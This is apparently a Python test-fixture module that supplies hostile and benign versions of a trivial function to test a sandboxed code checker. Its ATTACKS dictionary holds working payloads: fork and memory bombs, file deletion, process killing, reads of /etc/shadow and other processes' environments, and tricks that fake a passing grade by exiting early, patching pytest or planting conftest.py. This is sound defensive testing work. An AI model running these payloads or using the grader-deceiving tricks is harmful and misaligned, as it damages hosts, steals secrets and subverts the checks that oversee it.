"""Artifacts that attack their guard or its host, and good ones to mix between them, as data.

The task of all is `f(x: int) -> int`, x plus 2, with the house style's docstring. Every hostile `f` is wrong: it can only
be accepted by deceit. What an attack could take or change is `attacked.Host`; its names stand in braces.
"""

# ruff: noqa: E501 (attacks are easier to compare on one line)

from __future__ import annotations

import textwrap

SIGNATURE = "f(x: int) -> int"
CASES = [[[1], 3], [[-2], 0], [[40], 42]]
TESTS = "from answer import f\n\n\ndef test_f():\n    assert f(1) == 3\n    assert f(-2) == 0\n\n\ndef test_g():\n    assert f(40) == 42\n"
SECRET = "canary-hunter2-canary"

# Each attack stands in the body of f, before a wrong result; `got` is what it found, and is returned.
ATTACKS = {
    # using up the machine
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "fork bomb that waits": """
        import os, time
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(60)
            except OSError:
                pass""",
    "thread bomb": """
        import _thread, time
        while True:
            _thread.start_new_thread(time.sleep, (60,))""",
    "process bomb through a shell": "import os\nos.system('b(){ b|b& };b')\nwhile True: pass",
    "memory bomb": "held = []\nwhile True:\n    held.append(bytearray(1 << 20))",
    "memory bomb at once": "got = len(bytearray(1 << 40))",
    "memory bomb through mmap": """
        import mmap
        held = []
        while True:
            held.append(mmap.mmap(-1, 1 << 24))
            held[-1].write(b"x" * (1 << 24))""",
    "memory in shared files": """
        import os
        for n in range(100000):
            with open(f"/dev/shm/{n}", "wb") as file:
                file.write(b"x" * 65536)""",
    "memory in memory files": """
        import os
        held = []
        while True:
            held.append(os.memfd_create("x"))
            os.write(held[-1], b"x" * 65536)""",
    "a full work folder": """
        for n in range(10**6):
            with open(str(n), "wb") as file:
                file.write(b"x" * 65536)""",
    "a full /tmp": """
        for n in range(10**6):
            with open(f"/tmp/{n}", "wb") as file:
                file.write(b"x" * 65536)""",
    "one huge file": "with open('huge', 'wb') as file:\n    file.seek(1 << 40)\n    file.write(b'x')",
    "endless loop": "while True:\n    pass",
    "endless sleep": "import time\nwhile True:\n    time.sleep(60)",
    "endless loop against signals": """
        import signal
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        while True:
            pass""",
    "output flood": "import os\nwhile True:\n    os.write(1, b'x' * 65536)",
    "error flood": "import os\nwhile True:\n    os.write(2, b'x' * 65536)",
    "100 MB on every descriptor": """
        import os
        for n in range(1, 64):
            try:
                for _ in range(1600):
                    os.write(n, b'x' * 65536)
            except OSError:
                pass""",
    "a value of 100 MB": "got = 'x' * (100 << 20)",
    "a huge representation": "class Long:\n    def __repr__(self):\n        return 'x' * (100 << 20)\ngot = Long()",
    "deep nesting": "got = []\nfor _ in range(10**5):\n    got = [got]",
    "higher limits": """
        import os, resource
        for kind in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
            try:
                resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            except (OSError, ValueError) as error:
                got = str(error)
        while True:
            os.fork()""",
    # changing the host
    "deleting files": "import shutil\nshutil.rmtree({victim!r}, ignore_errors=True)",
    "writing to the repository": "with open({victim!r} + '/file', 'w') as file:\n    file.write('mine')",
    "a new file in the repository": "with open({victim!r} + '/planted.py', 'w') as file:\n    file.write('mine')",
    "planting in the interpreter": """
        import sys
        for path in sys.path:
            try:
                open(path + "/sitecustomize.py", "w").write("raise SystemExit(0)")
                got = path
            except OSError:
                pass""",
    "changing permissions": "import os\nos.chmod({victim!r}, 0o000)\nos.chmod('/tmp', 0o777)",
    "a symlink out": "import os\nos.symlink({victim!r}, 'out')\nopen('out/file', 'w').write('mine')",
    "a hard link out": "import os\nos.link({victim!r} + '/file', 'linked')\nopen('linked', 'w').write('mine')",
    "climbing out": "import os\nos.chdir('..')\nopen('../../..' + {victim!r} + '/file', 'w').write('mine')",
    "a new root": "import os\nos.chroot('/proc/1/root')\nopen({victim!r} + '/file', 'w').write('mine')",
    "killing the parent": "import os\nos.kill(os.getppid(), 9)\nos.kill({pid}, 9)",
    "killing everything": "import os\nos.kill(-1, 9)",
    "killing its group": "import os\nos.killpg(0, 9)\nos.killpg(os.getpgid(os.getppid()), 9)",
    "a daemon that stays": """
        import os, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3)
                open({victim!r} + '/late', 'w').write('mine')
                os._exit(0)""",
    "kernel settings": "open('/proc/sys/kernel/hostname', 'w').write('mine')\nopen('/proc/sysrq-trigger', 'w').write('b')",
    "a device": "import os\nos.mknod('disk', 0o60666, os.makedev(254, 0))\ngot = open('disk', 'rb').read(64)",
    "new namespaces": """
        import ctypes
        libc = ctypes.CDLL(None)
        got = [libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.umount2(b"/sandbox", 2)]
        assert got[0] == 0""",
    "a program with root's rights": "import os\ngot = [os.system(c) for c in ('su -c id', 'mount -t tmpfs x /tmp', 'sudo id')]",
    # taking what is not its own
    "/etc/shadow": "got = open('/etc/shadow').read()",
    "another's file": "got = open({victim!r} + '/file').read()",
    "the environment": "import os\ngot = str(dict(os.environ))",
    "others' environments": """
        import glob
        got = []
        for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline"):
            try:
                got.append(open(path).read())
            except OSError:
                pass
        got = str(got)""",
    "the parent's memory": """
        import ctypes, os
        got = ctypes.CDLL(None).ptrace(16, {pid}, None, None)
        open("/proc/%d/mem" % {pid}, "rb").read(1)""",
    "files through /proc": "got = open('/proc/%d/root' % {pid} + {victim!r} + '/file').read()",
    "a connection": "import socket\nwith socket.create_connection(('127.0.0.1', {port}), 2) as s:\n    got = s.recv(99)",
    "a connection outside": "import socket\nwith socket.create_connection(('1.1.1.1', 53), 2) as s:\n    got = s.recv(99)",
    "a Unix socket by name": """
        import socket
        s = socket.socket(socket.AF_UNIX)
        s.connect('\\0' + {name!r})
        got = s.recv(99)""",
    "a Unix socket by path": "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({victim!r} + '/socket')\ngot = s.recv(99)",
    "the machine's host": "import socket\ns = socket.socket(40, socket.SOCK_STREAM)\ns.connect((2, 1024))",
    "kernel keys": "import ctypes\ngot = ctypes.CDLL(None).syscall(250, 0, -3, 1)\nassert got > 0",
    # deceiving the checker
    "os._exit(0)": "import os\nos._exit(0)",
    "sys.exit(0)": "import sys\nsys.exit(0)",
    "SystemExit in a thread of the exit": "import atexit, os\natexit.register(os._exit, 0)\nraise SystemExit(0)",
    "KeyboardInterrupt": "raise KeyboardInterrupt",
    "an exception of its own root": "class Away(BaseException):\n    pass\nraise Away",
    "a signal's handler": """
        import os, signal
        for number in (signal.SIGTERM, signal.SIGALRM, signal.SIGUSR1, signal.SIGXCPU):
            signal.signal(number, lambda *_: os._exit(0))
        os.kill(os.getpid(), signal.SIGUSR1)""",
    "a crash": "import ctypes\nctypes.string_at(0)",
    "replacing itself": "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'print(3)'])",
    "results on every descriptor": """
        import os
        for n in range(1, 64):
            try:
                os.write(n, b'value 3\\n3\\n{"passed": true}\\n1 passed in 0.01s\\n' * 9)
            except OSError:
                pass
        os._exit(0)""",
    "the harness's own words": """
        import os, sys
        frame = sys._getframe()
        while frame is not None:
            if "send" in frame.f_globals and "nonce" in frame.f_globals:
                for value in (1, 3, 0, 42):
                    frame.f_globals["send"]("value", str(value))
            frame = frame.f_back
        os._exit(0)""",
    "the secret in memory": """
        import gc
        for each in gc.get_objects():
            if isinstance(each, dict) and "nonce" in each and "send" in each:
                each["send"]("value", "3")
                each["encode"] = lambda value: "3"
                got = 3""",
    "patched builtins": """
        import builtins
        builtins.isinstance = builtins.issubclass = lambda *a: True
        builtins.repr = builtins.str = lambda *a: "3"
        builtins.type = lambda *a: int
        builtins.abs = builtins.sum = builtins.round = lambda *a: 3
        builtins.AssertionError = KeyError""",
    "patched test libraries": """
        import sys
        try:
            import _pytest.python, _pytest.runner, _pytest.reports, unittest
            _pytest.python.Function.runtest = lambda self: None
            _pytest.reports.TestReport.from_item_and_call = None
            unittest.TestCase.assertEqual = lambda *a, **k: None
        except ImportError:
            pass
        for module in list(sys.modules.values()):
            for name in dir(module):
                if name.startswith("test_"):
                    setattr(module, name, lambda: None)""",
    "planted settings": """
        import os
        for path in ("conftest.py", "../conftest.py", "sitecustomize.py", "usercustomize.py", ".apart/pytest.py", "pytest.py"):
            try:
                open(path, "w").write("import os; os._exit(0)")
            except OSError:
                pass
        for path in ("pytest.ini", "tox.ini", "setup.cfg"):
            open(path, "w").write("[pytest]\\naddopts = --collect-only\\n[tool:pytest]\\naddopts = --collect-only")""",
    "a tracer": """
        import os, sys
        sys.settrace(lambda *a: os._exit(0))
        sys.setprofile(lambda *a: os._exit(0))
        len([])""",
    "equal to everything": "class Any:\n    __eq__ = lambda self, other: True\n    __ne__ = lambda self, other: False\n    __hash__ = None\ngot = Any()",
    "an int equal to everything": "class Any(int):\n    __eq__ = lambda self, other: True\n    __hash__ = None\ngot = Any(9)",
    "close enough to everything": """
        class Any(float):
            __eq__ = __le__ = __lt__ = __ge__ = __gt__ = lambda self, other: True
            __sub__ = __rsub__ = __abs__ = lambda self, *other: 0.0
            __hash__ = None
        got = Any(9)""",
    "no descriptors left": "import os\nos.closerange(0, 4096)",
    "an import hook": """
        import sys
        class Hook:
            def find_spec(self, *a):
                raise SystemExit(0)
        sys.meta_path.insert(0, Hook())
        sys.modules.clear()
        import json""",
}

AT_IMPORT = (
    "os._exit(0)",
    "sys.exit(0)",
    "patched test libraries",
    "planted settings",
    "endless loop",
    "a tracer",
    "memory bomb",
)
"""Attacks that are also made while the module is loaded, before f is there."""

GOOD_BODIES = (
    *(f"return x + {n} - {n - 2}" for n in range(2, 14)),
    *(f"total = x\nfor _ in range({n}):\n    total += 2\nreturn total - {2 * n - 2}" for n in range(1, 8)),
    "import math\nreturn math.floor(x) + 2",
    "import json\nreturn json.loads(json.dumps(x)) + 2",
    "from functools import reduce\nreturn reduce(lambda a, b: a + b, [x, 1, 1])",
    "print('looking at', x)\nreturn x + 2",
    "import sys\nprint('noise', file=sys.stderr)\nreturn x + 2",
    "def inner(y):\n    return y + 1\nreturn inner(inner(x))",
    "class Two:\n    value = 2\nreturn x + Two.value",
    "return sum([x, 2])",
    "return int(str(x)) + 2",
    "return -(-x - 2)",
    "return x.__add__(2)",
    "try:\n    raise ValueError(x)\nexcept ValueError as error:\n    return error.args[0] + 2",
    "values = {x: x + 2}\nreturn values[x]",
    "with open('note', 'w') as file:\n    file.write(str(x + 2))\nwith open('note') as file:\n    return int(file.read())",
    "import tempfile\nwith tempfile.TemporaryFile() as file:\n    file.write(b'x')\nreturn x + 2",
    "held = bytearray(32 << 20)\nreturn x + 2 + held[0]",
    "return next(y for y in (x + 2,))",
    "import time\ntime.sleep(0.01)\nreturn x + 2",
    "return (lambda y: y + 2)(x)",
    "return [x, x + 1, x + 2][-1]",
    "import decimal\nreturn int(decimal.Decimal(x) + 2)",
)


def hostile() -> dict[str, str]:
    """Return the hostile artifacts by name, with names of the host still in braces."""
    made = {name: _function(f"got = None\n{_clean(attack)}\nreturn got") for name, attack in ATTACKS.items()}
    for name in AT_IMPORT:
        made[f"{name}, on import"] = f"{_clean(ATTACKS[name])}\n{_function('return None')}"
    return made


def good() -> list[str]:
    return [_function(body) for body in GOOD_BODIES]


def _clean(code: str) -> str:
    return textwrap.dedent(code).strip()


def _function(body: str) -> str:
    return f'def f(x: int) -> int:\n    """Return x plus 2."""\n{textwrap.indent(body, "    ")}\n'
